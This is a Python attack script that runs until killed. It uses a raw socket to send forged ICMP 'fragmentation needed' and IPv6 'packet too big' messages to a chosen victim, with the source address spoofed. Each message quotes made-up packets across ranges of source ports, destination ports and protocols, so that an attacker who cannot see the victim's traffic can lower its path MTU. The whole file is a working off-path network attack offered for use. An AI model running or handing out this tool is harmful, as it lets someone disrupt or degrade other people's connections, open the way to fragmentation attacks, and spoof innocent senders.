"""Sprays messages that packets are too big at a host, from a place that does not see its traffic.

spray.py VICTIM FAR_END FROM MTU LOW HIGH PORT..: until it is killed, for every source port from LOW to HIGH and each
destination PORT, over UDP, TCP and ICMP, with quotes of the header alone and with guessed content; as if FROM had sent them.
"""

import ipaddress
import itertools
import random
import socket
import struct
import sys

ICMP, TCP, UDP, ICMPV6 = 1, 6, 17, 58


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Spray:
    def __init__(self, victim, far_end, source, mtu):
        self.victim, self.far_end, self.source = (ipaddress.ip_address(one) for one in (victim, far_end, source))
        self.mtu = mtu
        self.six = self.victim.version == 6
        self.echo = ICMPV6 if self.six else ICMP
        family = socket.AF_INET6 if self.six else socket.AF_INET
        # The header is written here.
        self.socket = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def header(self, protocol, length, source, destination):
        if self.six:
            return struct.pack("!IHBB", 6 << 28, length, protocol, 64) + source.packed + destination.packed
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 1, 0x4000, 64, protocol, 0)
        header += source.packed + destination.packed
        return header[:10] + struct.pack("!H", checksum(header)) + header[12:]

    def quote(self, protocol, source, destination, content):
        """A packet of the victim of 9000 bytes; how many of them are quoted depends on the content."""
        length = 9_000 - (40 if self.six else 20)
        if protocol == UDP:
            transport = struct.pack("!HHHH", source, destination, length, 0)
        elif protocol == TCP:
            transport = struct.pack("!HHI", source, destination, random.getrandbits(32))
        else:
            transport = struct.pack("!BBHHH", 128 if self.six else 8, 0, 0, source, random.randrange(64))
        return self.header(protocol, length, self.victim, self.far_end) + transport + content

    def send(self, quote):
        kind, code, rest = (2, 0, self.mtu) if self.six else (3, 4, self.mtu)
        message = struct.pack("!BBHI", kind, code, 0, rest) + quote
        pseudo = b""
        if self.six:
            pseudo = self.source.packed + self.victim.packed + struct.pack("!II", len(message), ICMPV6)
        message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
        packet = self.header(self.echo, len(message), self.source, self.victim) + message
        try:
            self.socket.sendto(packet, (str(self.victim), 0))
        except OSError:
            # The queue is full.
            pass


def main(victim, far_end, source, mtu, low, high, *ports):
    spray = Spray(victim, far_end, source, int(mtu))
    ports = [int(port) for port in ports]
    # The header alone; what a test packet, an echo or a segment may begin with.
    contents = [b"", bytes(64), random.randbytes(64)]
    print("begins", flush=True)
    for port in itertools.cycle(range(int(low), int(high) + 1)):
        for content in contents:
            for destination in ports:
                spray.send(spray.quote(UDP, port, destination, content))
                spray.send(spray.quote(TCP, port, destination, content))
            spray.send(spray.quote(spray.echo, port, 0, content))


main(*sys.argv[1:])
